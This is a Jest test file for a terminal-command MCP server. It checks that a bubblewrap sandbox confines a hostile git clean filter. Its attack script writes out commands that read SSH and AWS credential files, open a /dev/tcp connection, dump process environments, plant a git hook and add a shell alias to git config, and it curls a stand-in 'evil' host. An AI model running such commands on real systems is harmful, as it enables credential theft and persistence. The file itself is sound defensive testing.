import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { makeOutsideDir, openListener, plantCleanFilterRepository } from '../support/sandbox-attack';
import { modern, StdioPeer } from '../support/stdio-peer';
import { CLI_PATH, makeTempWorkspace, REPO_ROOT } from '../support/workspace';

/*
 * Issue 16, against the real server and the real kernel: `git status` runs the clean filter the repository's own
 * config names (the policy says so and asks for approval in inspect and confirm; trusted runs it at once). Whatever
 * the mode, that program cannot write outside the workspace,
 * read the server user's credentials, the audit log or the server's installation, reach a listener on 127.0.0.1, or
 * read the server's environment (with ALLOW_NETWORK it reaches only the allowed hosts, through the filtering proxy); in inspect mode it cannot write the workspace either, and in no mode can it plant
 * a git hook or change the repository's git config. With TERM_MCP_SANDBOX=off the same attack succeeds (which is
 * what shows these tests can fail) and plans and receipts say that no sandbox applied.
 */

jest.setTimeout(60_000);

const SECRET_KEY = 'ssh-private-key-material-7f3a';
const AWS_SECRET = 'aws-secret-access-key-91bc';
const AUDIT_SECRET = 'audit-log-line-5d2e';
const SENTINEL = `server-env-sentinel-${process.pid}`;

interface Scene {
  workspace: { root: string; remove(): void };
  outside: { root: string; remove(): void };
  home: string;
  canary: string;
  auditLog: string;
  listener: Awaited<ReturnType<typeof openListener>>;
  gitConfig: string;
}

function attackScript(scene: Omit<Scene, 'gitConfig'>, extraLines: readonly string[]): string {
  const ws = scene.workspace.root;
  return [
    'echo EVIL-RAN >&2',
    `echo pwned > '${scene.canary}' 2>/dev/null && echo CANARY-WRITTEN >&2`,
    `echo pwned > '${scene.outside.root}/created' 2>/dev/null && echo CANARY-CREATED >&2`,
    `cat '${scene.home}/.ssh/id_rsa' '${scene.home}/.aws/credentials' '${scene.auditLog}' >&2 2>/dev/null`,
    `head -c 200 '${REPO_ROOT}/package.json' >&2 2>/dev/null`,
    `bash -c 'echo hello > /dev/tcp/127.0.0.1/${scene.listener.port}' 2>/dev/null && echo CONNECTED >&2`,
    "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep TERM_MCP_TEST_SENTINEL >&2",
    `echo pwned > '${ws}/written-by-hook' 2>/dev/null && echo WORKSPACE-WRITTEN >&2`,
    `echo 'echo hooked' > '${ws}/.git/hooks/pre-commit' 2>/dev/null && echo HOOK-PLANTED >&2`,
    `echo '[alias] x = !sh' >> '${ws}/.git/config' 2>/dev/null && echo GIT-CONFIG-CHANGED >&2`,
    ...extraLines,
    'exit 1',
  ].join('\n');
}

async function setUp(extraLines: readonly string[] = []): Promise<Scene> {
  const workspace = makeTempWorkspace('term-mcp-attack-');
  const outside = makeOutsideDir('term-mcp-canary-');
  const home = path.join(outside.root, 'home');
  mkdirSync(path.join(home, '.ssh'), { recursive: true });
  mkdirSync(path.join(home, '.aws'), { recursive: true });
  writeFileSync(path.join(home, '.ssh', 'id_rsa'), `${SECRET_KEY}\n`);
  writeFileSync(path.join(home, '.aws', 'credentials'), `${AWS_SECRET}\n`);
  const canary = path.join(outside.root, 'canary.txt');
  writeFileSync(canary, 'untouched\n');
  const auditLog = path.join(outside.root, 'audit.jsonl');
  writeFileSync(auditLog, `${AUDIT_SECRET}\n`);
  const listener = await openListener();
  const partial = { workspace, outside, home, canary, auditLog, listener };
  const { gitConfig } = plantCleanFilterRepository(workspace.root, attackScript(partial, extraLines));
  return { ...partial, gitConfig };
}

async function tearDown(scene: Scene): Promise<void> {
  await scene.listener.close();
  scene.workspace.remove();
  scene.outside.remove();
}

function startServer(scene: Scene, env: Record<string, string>): StdioPeer {
  return new StdioPeer({
    WORKSPACE_ROOT: scene.workspace.root,
    HOME: scene.home,
    AUDIT_LOG: scene.auditLog,
    TERM_MCP_TEST_SENTINEL: SENTINEL,
    ...env,
  });
}

let calls = 0;

async function callTool(
  peer: StdioPeer,
  name: string,
  args: Record<string, unknown>,
): Promise<{ isError?: boolean; structuredContent: Record<string, unknown> }> {
  calls += 1;
  const answer = await peer.request(modern('tools/call', `call-${calls}`, { name, arguments: args }), 30_000);
  return answer.result as { isError?: boolean; structuredContent: Record<string, unknown> };
}

/** Plans `git status`, approves it when the mode asks (as a user would), executes it and returns the receipt. */
async function gitStatus(peer: StdioPeer): Promise<Record<string, unknown>> {
  const plan = (await callTool(peer, 'terminal_plan', { command: 'git status' })).structuredContent;
  expect(plan.status).not.toBe('blocked');
  const target = { session_id: plan.session_id, plan_id: plan.id };
  if (typeof plan.approval_id === 'string') {
    expect((await callTool(peer, 'terminal_approve', { ...target, approval_id: plan.approval_id })).isError).toBe(
      false,
    );
  }
  const result = await callTool(peer, 'terminal_execute', target);
  expect(result.isError).toBe(false);
  return result.structuredContent;
}

describe.each(['inspect', 'confirm', 'trusted'] as const)(
  'sandboxed %s mode: a program git runs for `git status`',
  (mode) => {
    let scene: Scene;
    let peer: StdioPeer;
    let receipt: Record<string, unknown>;
    let stderr: string;

    beforeAll(async () => {
      scene = await setUp();
      peer = startServer(scene, { APPROVAL_MODE: mode });
      receipt = await gitStatus(peer);
      stderr = String(receipt.stderr);
    });

    afterAll(async () => {
      await peer.end();
      await tearDown(scene);
    });

    it('ran (the attack is real)', () => {
      expect(stderr).toContain('EVIL-RAN');
    });

    it('cannot write or create a file outside the workspace', () => {
      expect(readFileSync(scene.canary, 'utf8')).toBe('untouched\n');
      expect(existsSync(path.join(scene.outside.root, 'created'))).toBe(false);
      expect(stderr).not.toMatch(/CANARY-(WRITTEN|CREATED)/);
    });

    it("cannot read the server user's credentials, the audit log or the server's installation", () => {
      expect(stderr).not.toContain(SECRET_KEY);
      expect(stderr).not.toContain(AWS_SECRET);
      expect(stderr).not.toContain(AUDIT_SECRET);
      expect(stderr).not.toContain('"name": "term-mcp"');
    });

    it('cannot connect to a listener on 127.0.0.1', () => {
      expect(scene.listener.connections()).toBe(0);
      expect(stderr).not.toContain('CONNECTED');
    });

    it("cannot read the server's environment", () => {
      expect(stderr).not.toContain(SENTINEL);
    });

    it('cannot plant a git hook or change the git config', () => {
      expect(existsSync(path.join(scene.workspace.root, '.git', 'hooks', 'pre-commit'))).toBe(false);
      expect(readFileSync(path.join(scene.workspace.root, '.git', 'config'), 'utf8')).toBe(scene.gitConfig);
    });

    it(mode === 'inspect' ? 'cannot write the workspace' : 'can write the workspace', () => {
      expect(existsSync(path.join(scene.workspace.root, 'written-by-hook'))).toBe(mode !== 'inspect');
    });

    it('gets a signed receipt that names the confinement', () => {
      expect(receipt.confinement).toMatchObject({
        sandbox: 'bubblewrap',
        network: 'off',
        writable_roots: mode === 'inspect' ? ['/tmp'] : [scene.workspace.root, '/tmp'],
      });
    });
  },
);

describe('ALLOW_NETWORK on, TERM_MCP_ALLOWED_DOMAINS=localhost', () => {
  it('reaches an allowed host only through the filtering proxy: other hosts get 403, IP literals too, and there is no direct route', async () => {
    const hits: string[] = [];
    const destination = http.createServer((request, response) => {
      hits.push(request.url ?? '');
      response.end('registry answer\n');
    });
    await new Promise<void>((resolve) => destination.listen(0, '127.0.0.1', resolve));
    const { port } = destination.address() as AddressInfo;
    const curl = (label: string, options: string, url: string): string =>
      `curl -s --max-time 20 -o /dev/null -w '${label}=%{http_code}/%{http_connect}\\n' ${options} '${url}' >&2`;
    const scene = await setUp([
      curl('ALLOWED', '', `http://localhost:${port}/through-proxy`),
      curl('TUNNELLED', '-p', `http://localhost:${port}/through-tunnel`),
      curl('OTHER-HOST', '', `http://registry.evil.example:${port}/`),
      curl('IP-LITERAL', '-p', `http://127.0.0.1:${port}/`),
      curl('DIRECT', "--noproxy '*'", `http://127.0.0.1:${port}/direct`),
    ]);
    const receiptKey = 'filtered-network-receipt-key-0123456789';
    const peer = startServer(scene, {
      APPROVAL_MODE: 'inspect',
      ALLOW_NETWORK: '1',
      TERM_MCP_ALLOWED_DOMAINS: 'localhost',
      TERM_MCP_PROXY_LOOPBACK_PORTS: String(port),
      TERM_MCP_RECEIPT_KEY: receiptKey,
    });
    try {
      const plan = await peer.request(
        modern('tools/call', 'plan', { name: 'terminal_plan', arguments: { command: 'git status' } }),
      );
      const confinement = { sandbox: 'bubblewrap', network: 'filtered', allowed_domains: ['localhost'] };
      expect(plan.result).toMatchObject({ structuredContent: { preview: { confinement } } });
      const receipt = await gitStatus(peer);
      const stderr = String(receipt.stderr);
      expect(receipt.confinement).toMatchObject(confinement);
      expect(stderr).toContain('EVIL-RAN');
      expect(stderr).toContain('ALLOWED=200/000');
      expect(stderr).toContain('TUNNELLED=200/200');
      expect(stderr).toContain('OTHER-HOST=403/000');
      expect(stderr).toContain('IP-LITERAL=000/403');
      expect(stderr).toContain('DIRECT=000/000');
      expect(hits).toEqual(['/through-proxy', '/through-tunnel']);
      // The raw TCP listener of the attack (bash /dev/tcp to 127.0.0.1) is not reachable either: own network namespace.
      expect(scene.listener.connections()).toBe(0);
      expect(stderr).not.toContain('CONNECTED');
      expect(readFileSync(scene.canary, 'utf8')).toBe('untouched\n');
      expect(stderr).not.toContain(SECRET_KEY);
      expect(peer.stderr).toContain('network proxy refused a destination');
      // The new fields are schema-valid and signed: widening the allow list afterwards breaks the signature.
      const validate = (receiptToCheck: Record<string, unknown>): number | null => {
        const file = path.join(scene.outside.root, 'receipt.json');
        writeFileSync(file, JSON.stringify(receiptToCheck));
        return spawnSync(process.execPath, [CLI_PATH, 'receipt', 'validate', file], {
          env: { PATH: process.env.PATH ?? '/usr/bin:/bin', TERM_MCP_RECEIPT_KEY: receiptKey },
          encoding: 'utf8',
        }).status;
      };
      expect(validate(receipt)).toBe(0);
      expect(
        validate({
          ...receipt,
          confinement: { ...(receipt.confinement as object), allowed_domains: ['localhost', 'evil.example'] },
        }),
      ).toBe(1);
    } finally {
      await peer.end();
      await tearDown(scene);
      destination.closeAllConnections();
      await new Promise((resolve) => destination.close(resolve));
    }
  });
});

describe('TERM_MCP_SANDBOX=off', () => {
  it('runs commands unconfined and says so in plans and receipts (the same attack then succeeds)', async () => {
    const scene = await setUp();
    const peer = startServer(scene, { APPROVAL_MODE: 'inspect', TERM_MCP_SANDBOX: 'off' });
    try {
      const plan = await peer.request(
        modern('tools/call', 'plan', { name: 'terminal_plan', arguments: { command: 'git status' } }),
      );
      expect(plan.result).toMatchObject({ structuredContent: { preview: { confinement: { sandbox: 'off' } } } });
      const receipt = await gitStatus(peer);
      expect(receipt.confinement).toEqual({ sandbox: 'off' });
      expect(readFileSync(scene.canary, 'utf8')).toBe('pwned\n');
      expect(String(receipt.stderr)).toContain(SECRET_KEY);
      expect(scene.listener.connections()).toBeGreaterThan(0);
      expect(peer.stderr).toContain('TERM_MCP_SANDBOX=off');
    } finally {
      await peer.end();
      await tearDown(scene);
    }
  });
});

describe('sandbox unavailable', () => {
  it('refuses every command with sandbox_unavailable and a next step, and runs nothing', async () => {
    const scene = await setUp();
    const peer = startServer(scene, {
      APPROVAL_MODE: 'trusted',
      TERM_MCP_BWRAP: path.join(scene.outside.root, 'no-such-bwrap'),
    });
    try {
      const answer = await peer.request(
        modern('tools/call', 'git', { name: 'terminal_execute', arguments: { command: 'git status' } }),
      );
      expect(answer.result).toMatchObject({
        isError: true,
        structuredContent: { code: 'sandbox_unavailable', next_step: expect.stringContaining('bubblewrap') },
      });
      expect(readFileSync(scene.canary, 'utf8')).toBe('untouched\n');
      expect(peer.stderr).toContain('command sandbox unavailable');
    } finally {
      await peer.end();
      await tearDown(scene);
    }
  });

  it('with ALLOW_NETWORK, refuses every command when socat (the bridge to the proxy) is missing: no fallback to any network', async () => {
    const scene = await setUp();
    const peer = startServer(scene, {
      APPROVAL_MODE: 'trusted',
      ALLOW_NETWORK: '1',
      TERM_MCP_SOCAT: path.join(scene.outside.root, 'no-such-socat'),
    });
    try {
      const answer = await peer.request(
        modern('tools/call', 'git', { name: 'terminal_execute', arguments: { command: 'git status' } }),
      );
      expect(answer.result).toMatchObject({
        isError: true,
        structuredContent: { code: 'sandbox_unavailable', next_step: expect.stringContaining('socat') },
      });
      expect(scene.listener.connections()).toBe(0);
      expect(readFileSync(scene.canary, 'utf8')).toBe('untouched\n');
      expect(peer.stderr).toContain('command sandbox unavailable');
    } finally {
      await peer.end();
      await tearDown(scene);
    }
  });
});
